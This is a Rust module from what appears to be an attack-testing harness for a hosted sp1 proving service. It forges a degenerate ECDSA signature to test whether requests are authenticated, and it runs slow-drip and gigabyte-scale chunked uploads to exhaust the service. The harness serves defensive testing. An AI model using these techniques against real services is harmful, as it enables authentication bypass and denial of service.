//! Attacks on the interface for sp1-sdk. The calls are sent over HTTP/1.1, which the service accepts too.

use super::http::{HttpReply, ask_at, chunk, head, pour_at};
use crate::attack::target::AttackTarget;
use anyhow::{Context, Result, bail};
use sp1d_artifacts::{Blob, CHUNK_BYTES};
use std::time::Duration;

/// Start of the path of an upload. Hexadecimal digits follow.
const FILES: &str = "/hosted/v1/files/";

/// Number of entries in the body of a request, so that the body has nearly the largest length.
const ENTRIES: usize = 2700;

/// Returns a signature that is valid for every text, each time of another signer. Both of its numbers are 1: that is
/// the coordinate of a point on the curve.
fn signature() -> [u8; 65] {
    let mut signature = [0; 65];
    (signature[31], signature[63], signature[64]) = (1, 1, 27);
    signature
}

/// Appends the field `number` with these bytes to a message.
fn put_bytes(message: &mut Vec<u8>, number: u8, content: &[u8]) {
    message.push((number << 3) | 2);
    let mut length = content.len();
    while length > 0x7f {
        message.push((length & 0x7f) as u8 | 0x80);
        length >>= 7;
    }
    message.push(length as u8);
    message.extend_from_slice(content);
}

/// Makes the call `name` with this message.
async fn call(target: &AttackTarget, name: &str, message: &[u8]) -> Result<HttpReply> {
    let length = u32::try_from(message.len())?.to_be_bytes();
    let body = [[0_u8].as_slice(), &length, message].concat();
    ask_at(target, target.hosted_port, "POST", &format!("/{name}"), "content-type: application/grpc\r\n", &body).await
}

pub(in crate::attack) async fn hosted_bad_signatures(target: AttackTarget) -> Result<()> {
    let mut body = Vec::new();
    (0..ENTRIES).for_each(|_| put_bytes(&mut body, 11, &[0x22; 20]));
    // The signature of a stranger takes the service longer than one that is not valid.
    for signature in [[0xff; 65], signature()] {
        let mut request = vec![8, 1];
        put_bytes(&mut request, 2, &signature);
        put_bytes(&mut request, 3, &body);
        let reply = call(&target, "network.ProverNetwork/RequestProof", &request).await?;
        let is_accepted = !reply.text.contains("grpc-status: ") || reply.text.contains("grpc-status: 0");
        if reply.status == 200 && is_accepted {
            target.violate("the service accepted a request without the signature of a requester".to_owned());
        }
        target.counts.refuse("the signature was refused");
    }
    Ok(())
}

/// Returns the path at which the content of a new input can be sent.
async fn upload_path(target: &AttackTarget) -> Result<String> {
    let mut request = Vec::new();
    put_bytes(&mut request, 1, &signature());
    // An input.
    request.extend([0x10, 2]);
    let reply = call(target, "artifact.ArtifactStore/CreateArtifact", &request).await?;
    let start = reply.text.find(FILES).with_context(|| format!("no address: status {}", reply.status))?;
    let secret = reply.text[start + FILES.len()..].chars().take_while(char::is_ascii_hexdigit);
    Ok(FILES.chars().chain(secret).collect())
}

pub(in crate::attack) async fn hosted_uploads(target: AttackTarget) -> Result<()> {
    let path = upload_path(&target).await?;
    let port = target.hosted_port;
    let chunked = head("PUT", &path, "transfer-encoding: chunked\r\n");
    match target.counts.acts() % 3 {
        0 => {
            let slow = head("PUT", &path, "content-length: 1000000\r\n");
            pour_at(&target, port, &slow, b"\x28", Duration::from_millis(20)).await
        }
        1 => {
            let zeros = Blob::encode(&vec![0; CHUNK_BYTES]);
            let Some(frame) = zeros.chunks().first() else { bail!("the blob has no chunk") };
            // A gigabyte of zeros in each part.
            pour_at(&target, port, &chunked, &chunk(&frame.bytes.repeat(1024)), Duration::ZERO).await
        }
        _ => pour_at(&target, port, &chunked, &chunk(&[b'a'; 0x10000]), Duration::ZERO).await,
    }
}
